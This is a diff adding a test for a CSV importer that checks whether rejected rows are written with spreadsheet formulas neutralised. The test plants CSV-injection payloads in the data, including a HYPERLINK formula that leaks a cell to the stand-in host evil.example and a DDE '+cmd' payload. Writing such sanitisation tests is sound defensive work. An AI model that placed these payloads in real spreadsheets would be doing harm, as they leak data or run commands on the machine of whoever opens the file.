@@ -13,6 +13,7 @@ from collector.cli import app
 from collector.importer import ImportOptions, import_bytes
 from models.errors import UserError
 
+META_VI = FIXTURES / "meta_business_suite" / "May-01-2024_May-20-2024_posts_vi.csv"
 ACTIVITIES = FIXTURES / "activities" / "activities_2024-05_en.csv"
 FORGED = "act.csv:2: Views: FAKE LINE INJECTED"
 
@@ -153,3 +154,24 @@ def test_merged_cells_in_an_activity_workbook_count_for_every_row_they_cover(eng
         ("Hội nghị chiều", "Bát Xát", "conference", campaign),
         ("Hội nghị sáng", "Bát Xát", "conference", campaign),
     ]
+
+
+def test_rejected_rows_written_for_excel_keep_no_live_formula(engine, tmp_path):
+    import csv
+
+    rows = list(csv.reader(io.StringIO(META_VI.read_text(encoding="utf-8-sig"), newline="")))
+    rows[3][0] = "1.22158E+17"  # a bad id: the row is rejected and written out
+    rows[3][3] = '=HYPERLINK("http://evil.example/?leak="&B2,"Mở")'
+    rows[3][4] = "+cmd|' /C calc'!A0"
+    rows[0][5] = "@SUM(1)"  # even a header
+    out = io.StringIO()
+    csv.writer(out).writerows(rows)
+    options = ImportOptions(skip_bad_rows=True, lang="en", rejects_dir=tmp_path)
+    report = import_bytes(engine, META_VI.name, out.getvalue().encode("utf-8-sig"), options)
+    with report.rejects_path.open(encoding="utf-8-sig", newline="") as handle:
+        written = list(csv.reader(handle))
+    assert written[0][2 + 5] == "'@SUM(1)"
+    assert written[1][2 + 3] == '\'=HYPERLINK("http://evil.example/?leak="&B2,"Mở")'
+    assert written[1][2 + 4] == "'+cmd|' /C calc'!A0"
+    cells = [cell for row in written for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
